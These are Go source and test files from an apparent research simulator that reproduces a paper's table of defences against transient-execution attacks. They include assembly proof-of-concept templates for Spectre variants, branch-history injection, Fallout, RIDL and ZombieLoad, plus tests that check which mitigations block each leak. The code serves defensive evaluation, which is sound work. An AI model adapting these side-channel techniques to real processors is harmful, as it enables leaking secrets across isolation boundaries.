type Verdict uint8

// Verdicts: full mitigation (●), partial (◐), none (○).
const (
	VerdictNone Verdict = iota
	VerdictPartial
	VerdictFull
)

// String renders the verdict as the paper's symbol.
func (v Verdict) String() string {
	switch v {
	case VerdictFull:
		return "●"
	case VerdictPartial:
		return "◐"
	default:
		return "○"
	}
}

// Word renders the verdict as text.
func (v Verdict) Word() string {
	switch v {
	case VerdictFull:
		return "full"
	case VerdictPartial:
		return "partial"
	default:
		return "none"
	}
}

// RunVariant executes one variant under the given mitigation.
func RunVariant(v Variant, mit core.Mitigation) (*Outcome, error) {
	return RunVariantWith(v, mit, nil)
}

// RunVariantWith executes one variant with a machine-preparation hook
// applied after the scenario's own setup — the entry point the chaos
// injector uses to perturb attack runs for verdict-invariance checking.
func RunVariantWith(v Variant, mit core.Mitigation, prep func(*cpu.Machine)) (*Outcome, error) {
	sc, err := v.Build()
	if err != nil {
		return nil, fmt.Errorf("build %s: %w", v.Name, err)
	}
	cfg := core.DefaultConfig()
	m, err := cpu.NewMachine(cfg, mit, sc.Prog)
	if err != nil {
		return nil, err
	}
	if sc.Setup != nil {
		sc.Setup(m)
	}
	if prep != nil {
		prep(m)
	}
	maxC := sc.MaxCycles
	if maxC == 0 {
		maxC = 2_000_000
	}
	res := m.Run(maxC)
	out := &Outcome{
		Variant:     v.Name,
		Leaked:      m.Oracle.Leaked(),
		SecretReads: m.Oracle.SecretReads,
		Events:      map[core.LeakChannel]int{},
		Faulted:     res.Faulted,
		TimedOut:    res.TimedOut,
		Cycles:      res.Cycles,
	}
	for _, ev := range m.Oracle.Events() {
		out.Events[ev.Channel]++
	}
	return out, nil
}

// Evaluate runs every variant of the attack under a mitigation and derives
// the Table 1 verdict: full when no variant leaked, none when all leaked,
// partial otherwise.
func (a *Attack) Evaluate(mit core.Mitigation) (Verdict, []*Outcome, error) {
	return a.EvaluateWith(mit, nil)
}

// EvaluateWith derives the verdict with a machine-preparation hook applied
// to every variant run (chaos perturbation).
func (a *Attack) EvaluateWith(mit core.Mitigation, prep func(*cpu.Machine)) (Verdict, []*Outcome, error) {
	outs := make([]*Outcome, 0, len(a.Variants))
	for _, v := range a.Variants {
		out, err := RunVariantWith(v, mit, prep)
		if err != nil {
			return VerdictNone, nil, fmt.Errorf("%s/%s: %w", a.Name, v.Name, err)
		}
		outs = append(outs, out)
	}
	return AggregateVerdict(outs), outs, nil
}

// AggregateVerdict folds per-variant outcomes into the Table 1 cell: full
// mitigation when no variant leaked, none when every variant leaked, partial
// otherwise. An empty outcome list is vacuously full — no variant leaked.
func AggregateVerdict(outs []*Outcome) Verdict {
	leaked, blocked := 0, 0
	for _, out := range outs {
		if out.Leaked {
			leaked++
		} else {
			blocked++
		}
	}
	switch {
	case leaked == 0:
		return VerdictFull
	case blocked == 0:
		return VerdictNone
	default:
		return VerdictPartial
	}
}

// setupCommon plants the secret, tags the victim regions and marks the
// oracle. Every PoC setup starts here.
func setupCommon(m *cpu.Machine) {
	m.Img.WriteU64(SecretAddr, SecretValue)
	m.Img.Write(SecretAddr+8, []byte("SECRET!!"))
	m.Img.Tags.SetRange(Array1Addr, Array1Size, TagVictim)
	m.Img.Tags.SetRange(SecretAddr, SecretSize, TagSecret)
	m.Oracle.MarkSecret(SecretAddr, SecretSize)
	// Benign array1 contents: small in-bounds values.
	for i := uint64(0); i < Array1Size; i += 8 {
		m.Img.WriteU64(Array1Addr+i, i/8)
	}
}

// All returns the Table 1 attack rows in presentation order.
func All() []*Attack {
	return []*Attack{
		SpectrePHT(),
		SpectreBTB(),
		SpectreRSB(),
		SpectreSTL(),
		SpectreBHB(),
		Fallout(),
		RIDL(),
		ZombieLoad(),
		SMoTHERSpectre(),
		SpeculativeInterference(),
		SpectreRewind(),
	}
}

// TableMitigations returns the defence columns of Table 1.
func TableMitigations() []core.Mitigation {
	return []core.Mitigation{core.STT, core.GhostMinion, core.SpecCFI,
		core.SpecASan, core.SpecASanCFI}
}
