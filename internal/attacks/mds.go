package attacks

import (
	"fmt"

	"specasan/internal/asm"
	"specasan/internal/cpu"
)

// mdsSetup is shared by the MDS PoCs: plant the secret, register the
// "kernel" page as an assist (permission-faulting) region, and install the
// fault handler so the attack loop survives the architectural fault —
// exactly how real MDS exploits handle the signal.
func mdsSetup(prog *asm.Program) (func(m *cpu.Machine), error) {
	handler, err := prog.LookupLabel("handler")
	if err != nil {
		return nil, err
	}
	return func(m *cpu.Machine) {
		setupCommon(m)
		m.Core(0).SetAssistRegion(KernelAddr, KernelAddr+KernelSize)
		m.Core(0).FaultHandler = handler
	}, nil
}

// Fallout builds the store-buffer (write-transient-forwarding) PoC: the
// baseline store queue forwards on a page-offset match before full
// addresses are compared, so an attacker load whose address aliases a
// victim store's offset transiently receives the victim's store data.
func Fallout() *Attack {
	build := func() (*Scenario, error) {
		prog, err := asm.Assemble(expand(`
_start:
    ADR  X22, probe
    MOV  X26, #@SECRET@
    LDG  X26, [X26]        // victim's valid secret pointer
    LDR  X5, [X26]         // warm the secret line (committed victim access)
    DSB                    // warm completes before the window opens
    ADR  X9, blockslot
    LDR  X1, [X9]          // cold miss: blocks commit, widens the window
    LDR  X5, [X26]         // victim re-reads its secret (L1 hit)
    ADR  X2, vslot
    STR  X5, [X2]          // victim store: sits in the SQ behind the blocker
    ADR  X3, aslot         // aslot aliases vslot in the low 12 bits
    EOR  X4, X5, X5        // always zero, but orders the aliased load just
    ORR  X3, X3, X4        // after the victim store resolves in the SQ
    LDR  X4, [X3]          // WTF: partial-match forward of the secret
    MOV  X5, X4
@TRANSMIT@
    SVC  #0
handler:
    BTI
    SVC  #0

    .org 0x140000
blockslot:
    .word 0
    .org 0x150100
vslot:
    .word 0
    .org 0x152100
aslot:
    .word 1111
@DATA@
`, map[string]string{
			"SECRET":   fmt.Sprint(SecretAddr),
			"TRANSMIT": transmitSeq,
			"DATA":     pocDataSection,
		}))
		if err != nil {
			return nil, err
		}
		setup, err := mdsSetup(prog)
		if err != nil {
			return nil, err
		}
		return &Scenario{Prog: prog, Setup: setup}, nil
	}
	return &Attack{
		Name:  "Fallout",
		Class: "MDS",
		Variants: []Variant{
			{Name: "wtf-partial-match", Build: build},
		},
	}
}

// ridlBody is the in-flight sampling core shared by RIDL and ZombieLoad:
// with the victim's secret line in flight in the LFB, an assisted load to an
// inaccessible kernel address transiently receives the in-flight bytes, and
// dependents transmit them before the fault retires.
const ridlBody = `
    MOV  X0, #@KERNEL@
    EOR  X1, X1, X1        // short delay chain: the assisted load must
    ORR  X0, X0, X1        // issue after the victim's fill is in flight
    ORR  X0, X0, X1
    LDR  X4, [X0]          // assisted load: samples the in-flight LFB line
    MOV  X5, X4
@TRANSMIT@
    SVC  #0
handler:
    BTI
    SVC  #0
`

// RIDL builds the rogue in-flight data load PoC: the victim's ordinary
// cache-missing load leaves its line in transit in the LFB while the
// attacker's faulting load samples it.
func RIDL() *Attack {
	build := func() (*Scenario, error) {
		prog, err := asm.Assemble(expand(`
_start:
    ADR  X22, probe
    MOV  X26, #@SECRET@
    LDG  X26, [X26]        // victim's valid secret pointer
    LDR  X5, [X26]         // victim load: cold miss, secret line in the LFB
`+ridlBody+`
@DATA@
`, map[string]string{
			"SECRET":   fmt.Sprint(SecretAddr),
			"KERNEL":   fmt.Sprint(KernelAddr),
			"TRANSMIT": transmitSeq,
			"DATA":     pocDataSection,
		}))
		if err != nil {
			return nil, err
		}
		setup, err := mdsSetup(prog)
		if err != nil {
			return nil, err
		}
		return &Scenario{Prog: prog, Setup: setup}, nil
	}
	return &Attack{
		Name:  "RIDL",
		Class: "MDS",
		Variants: []Variant{
			{Name: "lfb-inflight-sample", Build: build},
		},
	}
}

// ZombieLoad builds the flush-triggered variant: the victim's line is
// flushed and immediately re-fetched, and the refill in flight is sampled by
// the attacker's assisted load.
func ZombieLoad() *Attack {
	build := func() (*Scenario, error) {
		prog, err := asm.Assemble(expand(`
_start:
    ADR  X22, probe
    MOV  X26, #@SECRET@
    LDG  X26, [X26]
    LDR  X5, [X26]         // warm (first miss commits)
    DC   CIVAC, X26        // flush the secret line
    DSB                    // order the flush before the refill
    LDR  X5, [X26]         // refill: secret line in flight again
`+ridlBody+`
@DATA@
`, map[string]string{
			"SECRET":   fmt.Sprint(SecretAddr),
			"KERNEL":   fmt.Sprint(KernelAddr),
			"TRANSMIT": transmitSeq,
			"DATA":     pocDataSection,
		}))
		if err != nil {
			return nil, err
		}
		setup, err := mdsSetup(prog)
		if err != nil {
			return nil, err
		}
		return &Scenario{Prog: prog, Setup: setup}, nil
	}
	return &Attack{
		Name:  "ZombieLoad",
		Class: "MDS",
		Variants: []Variant{
			{Name: "flush-refill-sample", Build: build},
		},
	}
}
