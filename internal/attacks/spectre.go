package attacks

import (
	"fmt"
	"strings"

	"specasan/internal/asm"
	"specasan/internal/cpu"
)

// transmitSeq is the classic USE+TRANSMIT tail: encode the secret in X5 into
// a probe-array index and touch the probe line. X22 must hold the probe base.
const transmitSeq = `
    LSL X6, X5, #6
    AND X6, X6, #4032
    LDR X8, [X22, X6]
`

// pocDataSection places the shared PoC regions: the victim array (the
// secret is planted immediately past its bounds by setupCommon) and the
// attacker's probe array.
var pocDataSection = fmt.Sprintf(`
    .org %d
array1:
    .space %d
    .org %d
probe:
    .space %d
`, Array1Addr, Array1Size, ProbeAddr, ProbeSize)

// secretPtrSetup materialises the attacker's pointer to the secret in X26.
// foreign = true models the attacker's own (untagged) pointer, whose key
// cannot match the secret's allocation tag; foreign = false models a gadget
// that reaches the secret through the victim's own valid pointer (recovered
// with LDG), which no tag check can refuse.
func secretPtrSetup(foreign bool) string {
	if foreign {
		return fmt.Sprintf("    MOV X26, #%d\n", SecretAddr)
	}
	return fmt.Sprintf("    MOV X26, #%d\n    LDG X26, [X26]\n", SecretAddr)
}

// victimWarm models the victim having recently used its secret through its
// own valid pointer: the secret line is cached when the attack window opens,
// so the speculative ACCESS outruns the (flushed) bounds check — the classic
// Spectre setup.
const victimWarm = `
    MOV  X13, #@SECRETW@
    LDG  X13, [X13]
    LDR  X14, [X13]        // victim recently used its secret: it is cached
    DSB                    // the warm access completes before the attack
`

// expand substitutes @name@ placeholders in a PoC template.
func expand(tmpl string, repl map[string]string) string {
	out := tmpl
	for k, v := range repl {
		out = strings.ReplaceAll(out, "@"+k+"@", v)
	}
	out = strings.ReplaceAll(out, "@WARM@", victimWarm)
	out = strings.ReplaceAll(out, "@SECRETW@", fmt.Sprint(SecretAddr))
	return out
}

// SpectrePHT builds the Spectre-v1 bounds-check-bypass PoC of Listing 1:
// a mistrained conditional branch lets a speculative load index past
// array1's bounds into the secret, which carries a different allocation tag.
func SpectrePHT() *Attack {
	build := func() (*Scenario, error) {
		prog, err := asm.Assemble(expand(`
_start:
    ADR  X20, size_slot
    ADR  X21, array1
    LDG  X21, [X21]        // victim array pointer, key = TagVictim
    ADR  X22, probe
    MOV  X27, #@OOB@       // OOB index: &array1[idx] == secret
    MOV  X28, #8           // in-bounds training index
@WARM@    MOV  X12, #17
loop:
    ADR  X9, size_slot
    DC   CIVAC, X9         // keep the bounds check slow every iteration
    DSB
    CMP  X12, #1
    CSEL X0, X27, X28, EQ  // last iteration goes out of bounds (branch-free
                           // selection keeps the branch history identical)
    BL   victim
    SUB  X12, X12, #1
    CBNZ X12, loop
    SVC  #0

victim:
    BTI
    LDR  X1, [X20]         // ARRAY1_SIZE: long-latency after the flush
    CMP  X0, X1
    B.HS vdone             // mistrained bounds check
    LDR  X5, [X21, X0]     // ACCESS: array1[X]
@TRANSMIT@
vdone:
    RET

    .org 0x120000
size_slot:
    .word @SIZE@
@DATA@
`, map[string]string{
			"OOB":      fmt.Sprint(SecretAddr - Array1Addr),
			"SIZE":     fmt.Sprint(Array1Size / 8),
			"TRANSMIT": transmitSeq,
			"DATA":     pocDataSection,
		}))
		if err != nil {
			return nil, err
		}
		return &Scenario{Prog: prog, Setup: setupCommon}, nil
	}
	return &Attack{
		Name:  "PHT (Spectre v1)",
		Class: "Spectre",
		Variants: []Variant{
			{Name: "bounds-check-bypass", Build: build},
		},
	}
}

// btbTemplate is the Spectre-v2 style branch-target-injection body: one
// indirect call site is trained into a non-BTI gadget for several
// iterations; on the final iteration the victim publishes the legitimate
// target and the attacker-steered argument, but the predictor still fires
// into the gadget while the (flushed) function-pointer load is outstanding.
// Branch-free CSEL selection keeps every iteration's control flow identical.
const btbTemplate = `
_start:
    ADR  X21, array1
    LDG  X21, [X21]
    ADR  X22, probe
@WARM@    ADR  X19, fnslot
    ADR  X24, gadget
    ADR  X25, legit
    MOV  X23, X21          // benign gadget argument during training
@SECRETPTR@    MOV  X12, #7
loop:
    CMP  X12, #1
    CSEL X9, X25, X24, EQ  // final iteration: the legitimate target
    STR  X9, [X19]
    CSEL X26, X18, X23, EQ // final iteration: the attacker-steered pointer
    ADR  X9, fnslot
    DC   CIVAC, X9         // the function-pointer load misses every time
    DSB
@HIST@    LDR  X9, [X19]
    BLR  X9                // trained: speculates into the gadget
    SUB  X12, X12, #1
    CBNZ X12, loop
    SVC  #0

gadget:                    // deliberately NOT a BTI landing pad
    LDR  X5, [X26]         // ACCESS via the attacker-steered pointer
@TRANSMIT@
    RET
legit:
    BTI
    RET
@HISTFNS@
    .org 0x120000
fnslot:
    .word 0
@DATA@
`

// bhbTemplate is the branch-history-injection body: the same call site goes
// through three phases — gadget target under history A, legitimate target
// under history B, then the attack replays history A while the BTB holds the
// legitimate target. Only the history-keyed indirect predictor still holds
// the gadget. X12 counts down from 13: phase A is X12 >= 8, phase B is
// 7..2, the attack iteration (X12 == 1) replays history A.
const bhbTemplate = `
_start:
    ADR  X21, array1
    LDG  X21, [X21]
    ADR  X22, probe
@WARM@    ADR  X19, fnslot
    ADR  X24, gadget
    ADR  X25, legit
    MOV  X23, X21
    MOV  X27, #1
@SECRETPTR@    MOV  X12, #13
loop:
    CMP  X12, #8
    CSEL X9, X24, X25, HS  // phase A trains the gadget; B and attack: legit
    STR  X9, [X19]
    CMP  X12, #1
    CSEL X26, X18, X23, EQ
    ADR  X9, fnslot
    DC   CIVAC, X9
    DSB
    CMP  X12, #8
    CSEL X4, X27, XZR, HS  // history selector: A for phase A...
    CMP  X12, #1
    CSEL X4, X27, X4, EQ   // ...and for the attack replay
    CBNZ X4, sel_a
    BL   hist_b
    B    sel_done
sel_a:
    BL   hist_a
sel_done:
    LDR  X9, [X19]
    BLR  X9
    SUB  X12, X12, #1
    CBNZ X12, loop
    SVC  #0

gadget:
    LDR  X5, [X26]
@TRANSMIT@
    RET
legit:
    BTI
    RET
@HISTFNS@
    .org 0x120000
fnslot:
    .word 0
@DATA@
`

// histFns are two branch-hop chains with distinct pc/target patterns; each
// fully determines the 8-entry BHB when fetched.
const histFns = `
hist_a:
    BTI
    B ha1
ha1: B ha2
ha2: B ha3
ha3: B ha4
ha4: B ha5
ha5: B ha6
ha6: B ha7
ha7: B ha8
ha8: B ha9
ha9: RET
hist_b:
    BTI
    B hb1
hb1:
    NOP
    B hb2
hb2:
    NOP
    B hb3
hb3:
    NOP
    B hb4
hb4:
    NOP
    B hb5
hb5:
    NOP
    B hb6
hb6:
    NOP
    B hb7
hb7:
    NOP
    B hb8
hb8:
    NOP
    B hb9
hb9:
    RET
`

func buildIndirect(foreign, bhb bool) func() (*Scenario, error) {
	return func() (*Scenario, error) {
		repl := map[string]string{
			"SECRETPTR": secretPtrTo18(foreign),
			"TRANSMIT":  transmitSeq,
			"DATA":      pocDataSection,
			"HIST":      "",
			"HISTFNS":   "",
		}
		tmpl := btbTemplate
		if bhb {
			tmpl = bhbTemplate
			repl["HISTFNS"] = histFns
		}
		prog, err := asm.Assemble(expand(tmpl, repl))
		if err != nil {
			return nil, err
		}
		return &Scenario{Prog: prog, Setup: setupCommon}, nil
	}
}

// secretPtrTo18 is secretPtrSetup targeting X18 (the CSEL input), so the
// malicious pointer exists from the start but is only selected on the
// attack iteration.
func secretPtrTo18(foreign bool) string {
	if foreign {
		return fmt.Sprintf("    MOV X18, #%d\n", SecretAddr)
	}
	return fmt.Sprintf("    MOV X18, #%d\n    LDG X18, [X18]\n", SecretAddr)
}

// SpectreBTB builds the Spectre-v2 branch-target-injection PoC. The
// "matching-key" variant demonstrates the partial mitigation the paper
// describes for SpecASan: a gadget whose load carries the victim's own valid
// tag cannot be refused by a tag check, only by CFI.
func SpectreBTB() *Attack {
	return &Attack{
		Name:  "BTB (Spectre v2)",
		Class: "Spectre",
		Variants: []Variant{
			{Name: "foreign-key-gadget", Build: buildIndirect(true, false)},
			{Name: "matching-key-gadget", Build: buildIndirect(false, false)},
		},
	}
}

// SpectreBHB builds the branch-history-injection PoC: the indirect
// predictor is keyed by (speculatively updated) branch history, so a gadget
// target trained under history A fires even after the BTB was retrained to
// the legitimate target under history B — the attacker replays history A.
func SpectreBHB() *Attack {
	return &Attack{
		Name:  "BHB (BHI)",
		Class: "Spectre",
		Variants: []Variant{
			{Name: "foreign-key-gadget", Build: buildIndirect(true, true)},
			{Name: "matching-key-gadget", Build: buildIndirect(false, true)},
		},
	}
}

// SpectreRSB builds the ret2spec PoC: the attacker stuffs the return stack
// buffer with a gadget address (modelling cross-context RSB pollution); the
// victim's return-address load is slow, so the RET speculates into the
// gadget until the real target resolves.
func SpectreRSB() *Attack {
	build := func(foreign bool) func() (*Scenario, error) {
		return func() (*Scenario, error) {
			prog, err := asm.Assemble(expand(`
_start:
    ADR  X22, probe
@WARM@@SECRETPTR@    ADR  X9, lrslot
    LDR  X30, [X9]         // cold miss: the return target resolves slowly
    RET                    // RSB (attacker-stuffed) predicts the gadget

gadget:                    // not a BTI landing pad; disagrees with the
    LDR  X5, [X26]         // shadow stack
@TRANSMIT@
    RET
real_continue:
    BTI
    SVC  #0

    .org 0x120000
lrslot:
    .word real_continue
@DATA@
`, map[string]string{
				"SECRETPTR": secretPtrSetup(foreign),
				"TRANSMIT":  transmitSeq,
				"DATA":      pocDataSection,
			}))
			if err != nil {
				return nil, err
			}
			gadget, err := prog.LookupLabel("gadget")
			if err != nil {
				return nil, err
			}
			return &Scenario{Prog: prog, Setup: func(m *cpu.Machine) {
				setupCommon(m)
				m.Core(0).Predictor().PoisonRSB(gadget, 4)
			}}, nil
		}
	}
	return &Attack{
		Name:  "RSB (Spectre v5)",
		Class: "Spectre",
		Variants: []Variant{
			{Name: "foreign-key-gadget", Build: build(true)},
			{Name: "matching-key-gadget", Build: build(false)},
		},
	}
}

// SpectreSTL builds the Spectre-v4 speculative-store-bypass PoC: a store
// whose address resolves slowly is bypassed by a younger load to the same
// location, which transiently reads the stale value — here the secret left
// behind in a freed-and-reallocated slot (the tag was refreshed on realloc,
// so the committed-path pointer is valid while the *stale data* is secret).
func SpectreSTL() *Attack {
	build := func() (*Scenario, error) {
		prog, err := asm.Assemble(expand(`
_start:
    ADR  X22, probe
    MOV  X28, #@SLOT@      // the reallocated slot (stale secret inside)
    LDG  X28, [X28]        // valid pointer: key matches the fresh tag
    LDR  X14, [X28]        // slot recently used: cached
    DSB
    ADR  X9, depslot
    LDR  X1, [X9]          // cold miss: delays the store's address
    AND  X1, X1, #7
    ADD  X2, X28, X1       // store address depends on the slow load
    STR  XZR, [X2]         // initialise the new allocation (clears secret)
    LDR  X3, [X28]         // MDU speculates no conflict: reads STALE secret
    MOV  X5, X3
@TRANSMIT@
    SVC  #0

    .org 0x120000
depslot:
    .word 0
@DATA@
`, map[string]string{
			"SLOT":     fmt.Sprint(SecretAddr),
			"TRANSMIT": transmitSeq,
			"DATA":     pocDataSection,
		}))
		if err != nil {
			return nil, err
		}
		return &Scenario{Prog: prog, Setup: func(m *cpu.Machine) {
			setupCommon(m)
			// free()+realloc(): the slot's granules get a fresh tag while
			// the stale secret bytes are still inside.
			m.Img.Tags.SetRange(SecretAddr, SecretSize, 0xc)
		}}, nil
	}
	return &Attack{
		Name:  "STL (Spectre v4)",
		Class: "Spectre",
		Variants: []Variant{
			{Name: "store-bypass-stale-read", Build: build},
		},
	}
}
