package attacks

import (
	"testing"

	"specasan/internal/core"
)

// expectedMatrix is Table 1 of the paper, reconstructed from §4 prose:
// ● full, ◐ partial, ○ none. Row order matches All().
var expectedMatrix = map[string]map[core.Mitigation]Verdict{
	"PHT (Spectre v1)": {
		core.STT: VerdictFull, core.GhostMinion: VerdictFull,
		core.SpecCFI: VerdictNone, core.SpecASan: VerdictFull,
		core.SpecASanCFI: VerdictFull,
	},
	"BTB (Spectre v2)": {
		core.STT: VerdictFull, core.GhostMinion: VerdictFull,
		core.SpecCFI: VerdictFull, core.SpecASan: VerdictPartial,
		core.SpecASanCFI: VerdictFull,
	},
	"RSB (Spectre v5)": {
		core.STT: VerdictFull, core.GhostMinion: VerdictFull,
		core.SpecCFI: VerdictFull, core.SpecASan: VerdictPartial,
		core.SpecASanCFI: VerdictFull,
	},
	"STL (Spectre v4)": {
		core.STT: VerdictFull, core.GhostMinion: VerdictFull,
		core.SpecCFI: VerdictNone, core.SpecASan: VerdictFull,
		core.SpecASanCFI: VerdictFull,
	},
	"BHB (BHI)": {
		core.STT: VerdictFull, core.GhostMinion: VerdictFull,
		core.SpecCFI: VerdictFull, core.SpecASan: VerdictPartial,
		core.SpecASanCFI: VerdictFull,
	},
	"Fallout": {
		core.STT: VerdictNone, core.GhostMinion: VerdictNone,
		core.SpecCFI: VerdictNone, core.SpecASan: VerdictFull,
		core.SpecASanCFI: VerdictFull,
	},
	"RIDL": {
		core.STT: VerdictNone, core.GhostMinion: VerdictNone,
		core.SpecCFI: VerdictNone, core.SpecASan: VerdictFull,
		core.SpecASanCFI: VerdictFull,
	},
	"ZombieLoad": {
		core.STT: VerdictNone, core.GhostMinion: VerdictNone,
		core.SpecCFI: VerdictNone, core.SpecASan: VerdictFull,
		core.SpecASanCFI: VerdictFull,
	},
	"SMoTHERSpectre": {
		core.STT: VerdictPartial, core.GhostMinion: VerdictPartial,
		core.SpecCFI: VerdictFull, core.SpecASan: VerdictPartial,
		core.SpecASanCFI: VerdictFull,
	},
	"Spec. Interference": {
		core.STT: VerdictPartial, core.GhostMinion: VerdictPartial,
		core.SpecCFI: VerdictNone, core.SpecASan: VerdictFull,
		core.SpecASanCFI: VerdictFull,
	},
	"SpectreRewind": {
		core.STT: VerdictPartial, core.GhostMinion: VerdictPartial,
		core.SpecCFI: VerdictNone, core.SpecASan: VerdictFull,
		core.SpecASanCFI: VerdictFull,
	},
}

// TestAllAttacksLeakOnUnsafeBaseline: with no mitigation, every PoC variant
// must actually work — otherwise the matrix proves nothing.
func TestAllAttacksLeakOnUnsafeBaseline(t *testing.T) {
	for _, a := range All() {
		for _, v := range a.Variants {
			t.Run(a.Name+"/"+v.Name, func(t *testing.T) {
				out, err := RunVariant(v, core.Unsafe)
				if err != nil {
					t.Fatal(err)
				}
				if out.TimedOut {
					t.Fatalf("timed out after %d cycles", out.Cycles)
				}
				if !out.Leaked {
					t.Fatalf("no leak on unsafe baseline (secretReads=%d, events=%v)",
						out.SecretReads, out.Events)
				}
			})
		}
	}
}

// TestMTEAloneDoesNotStopSpectre: committed-path tag checks (plain MTE)
// must not block the speculative v1 leak — the gap SpecASan closes.
func TestMTEAloneDoesNotStopSpectre(t *testing.T) {
	v := SpectrePHT().Variants[0]
	out, err := RunVariant(v, core.MTE)
	if err != nil {
		t.Fatal(err)
	}
	if !out.Leaked {
		t.Fatalf("plain MTE unexpectedly blocked Spectre-v1 (events=%v)", out.Events)
	}
}

// TestTable1Matrix reproduces every cell of Table 1.
func TestTable1Matrix(t *testing.T) {
	for _, a := range All() {
		want, ok := expectedMatrix[a.Name]
		if !ok {
			t.Fatalf("no expectation for %s", a.Name)
		}
		for _, mit := range TableMitigations() {
			mit := mit
			a := a
			t.Run(a.Name+"/"+mit.String(), func(t *testing.T) {
				verdict, outs, err := a.Evaluate(mit)
				if err != nil {
					t.Fatal(err)
				}
				if verdict != want[mit] {
					for _, o := range outs {
						t.Logf("  variant %-28s leaked=%v reads=%d events=%v timeout=%v",
							o.Variant, o.Leaked, o.SecretReads, o.Events, o.TimedOut)
					}
					t.Fatalf("verdict = %s, want %s", verdict.Word(), want[mit].Word())
				}
			})
		}
	}
}

// TestSpecASanBlocksAccessStage: under SpecASan the v1 secret must never be
// speculatively read at all (G1), not merely not transmitted.
func TestSpecASanBlocksAccessStage(t *testing.T) {
	v := SpectrePHT().Variants[0]
	out, err := RunVariant(v, core.SpecASan)
	if err != nil {
		t.Fatal(err)
	}
	if out.SecretReads != 0 {
		t.Fatalf("secret speculatively read %d times under SpecASan", out.SecretReads)
	}
}
