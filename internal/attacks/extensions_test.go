package attacks

import (
	"testing"

	"specasan/internal/core"
	"specasan/internal/cpu"
	"specasan/internal/mte"
)

// TestLVIMatchesSection6: the buffer-injection mechanism is blocked by tag
// validation of LFB forwards; the register-steering variant is beyond any
// memory-tagging defence (the paper's stated limitation). Overall: partial.
func TestLVIMatchesSection6(t *testing.T) {
	lvi := LVI()

	// Everything leaks on the unprotected baseline.
	for _, v := range lvi.Variants {
		out, err := RunVariant(v, core.Unsafe)
		if err != nil {
			t.Fatal(err)
		}
		if !out.Leaked {
			t.Fatalf("%s must leak on the baseline (reads=%d events=%v)",
				v.Name, out.SecretReads, out.Events)
		}
	}

	verdict, outs, err := lvi.Evaluate(core.SpecASan)
	if err != nil {
		t.Fatal(err)
	}
	if verdict != VerdictPartial {
		for _, o := range outs {
			t.Logf("%s leaked=%v events=%v", o.Variant, o.Leaked, o.Events)
		}
		t.Fatalf("LVI under SpecASan = %s, want partial (§6)", verdict.Word())
	}
	for _, o := range outs {
		switch o.Variant {
		case "buffer-inject":
			if o.Leaked {
				t.Error("tag validation must block the buffer injection")
			}
		case "register-steer":
			if !o.Leaked {
				t.Error("register-targeted LVI is explicitly beyond SpecASan")
			}
		}
	}
}

// TestPrefetcherChannel: with a plain next-line prefetcher the secret line
// is pulled into the cache by the attacker's adjacent demand miss, even
// under SpecASan; the checked prefetcher closes the channel.
func TestPrefetcherChannel(t *testing.T) {
	leaked, err := RunPrefetchLeak(core.SpecASan, false)
	if err != nil {
		t.Fatal(err)
	}
	if !leaked {
		t.Fatal("unchecked prefetcher must pull the secret line (§6 risk)")
	}
	leaked, err = RunPrefetchLeak(core.SpecASan, true)
	if err != nil {
		t.Fatal(err)
	}
	if leaked {
		t.Fatal("checked prefetcher must stop at the allocation-tag boundary")
	}
}

// TestTagBruteForceLimitation demonstrates §6's honest caveat: MTE has only
// 16 tags, so an attacker who can retry (catching the tag faults) finds a
// colliding key by brute force — SpecASan inherits this limitation from the
// ISA extension it builds on. A colliding secret tag leaks; any other stays
// blocked.
func TestTagBruteForceLimitation(t *testing.T) {
	run := func(secretTag mte.Tag) bool {
		sc, err := SpectrePHT().Variants[0].Build()
		if err != nil {
			t.Fatal(err)
		}
		m, err := cpu.NewMachine(core.DefaultConfig(), core.SpecASan, sc.Prog)
		if err != nil {
			t.Fatal(err)
		}
		sc.Setup(m)
		m.Img.Tags.SetRange(SecretAddr, SecretSize, secretTag)
		m.Run(2_000_000)
		return m.Oracle.Leaked()
	}
	leaks := 0
	for tag := mte.Tag(1); tag < mte.NumTags; tag++ {
		if run(tag) {
			leaks++
			if tag != TagVictim {
				t.Errorf("tag %#x leaked without colliding", tag)
			}
		}
	}
	if leaks != 1 {
		t.Fatalf("%d of 15 tag guesses leaked; exactly the colliding one must", leaks)
	}
}
