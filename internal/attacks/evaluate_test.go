package attacks

import (
	"errors"
	"strings"
	"testing"

	"specasan/internal/core"
)

// outcomes builds one Outcome per leak flag.
func outcomes(leaks ...bool) []*Outcome {
	outs := make([]*Outcome, len(leaks))
	for i, l := range leaks {
		outs[i] = &Outcome{Variant: "v", Leaked: l}
	}
	return outs
}

func TestAggregateVerdict(t *testing.T) {
	cases := []struct {
		name string
		outs []*Outcome
		want Verdict
	}{
		// Empty is vacuously full: no variant leaked.
		{"empty", nil, VerdictFull},
		{"one-blocked", outcomes(false), VerdictFull},
		{"one-leaked", outcomes(true), VerdictNone},
		{"all-blocked", outcomes(false, false, false), VerdictFull},
		{"all-leaked", outcomes(true, true, true), VerdictNone},
		{"first-leaks", outcomes(true, false), VerdictPartial},
		{"last-leaks", outcomes(false, true), VerdictPartial},
		{"mixed-three", outcomes(false, true, false), VerdictPartial},
		{"mostly-leaked", outcomes(true, true, false), VerdictPartial},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			if got := AggregateVerdict(tc.outs); got != tc.want {
				t.Fatalf("AggregateVerdict(%s) = %v, want %v", tc.name, got, tc.want)
			}
		})
	}
}

func TestAggregateVerdictIgnoresNonLeakFields(t *testing.T) {
	// A faulted or timed-out outcome that did not leak still counts as
	// blocked: the verdict folds Leaked alone, anything else is the runner's
	// business.
	outs := []*Outcome{
		{Variant: "a", Leaked: false, Faulted: true},
		{Variant: "b", Leaked: false, TimedOut: true, SecretReads: 7},
	}
	if got := AggregateVerdict(outs); got != VerdictFull {
		t.Fatalf("verdict = %v, want %v", got, VerdictFull)
	}
}

func TestEvaluateMatchesAggregate(t *testing.T) {
	// Evaluate's verdict must be exactly AggregateVerdict of the outcomes it
	// returns — the seam the fuzzer's per-mitigation rows rely on.
	a := SpectrePHT()
	for _, mit := range []core.Mitigation{core.Unsafe, core.SpecASan} {
		v, outs, err := a.Evaluate(mit)
		if err != nil {
			t.Fatalf("Evaluate(%v): %v", mit, err)
		}
		if len(outs) != len(a.Variants) {
			t.Fatalf("got %d outcomes for %d variants", len(outs), len(a.Variants))
		}
		if want := AggregateVerdict(outs); v != want {
			t.Fatalf("Evaluate(%v) = %v, AggregateVerdict(outs) = %v", mit, v, want)
		}
	}
}

func TestEvaluatePropagatesBuildError(t *testing.T) {
	buildErr := errors.New("synthetic build failure")
	a := &Attack{
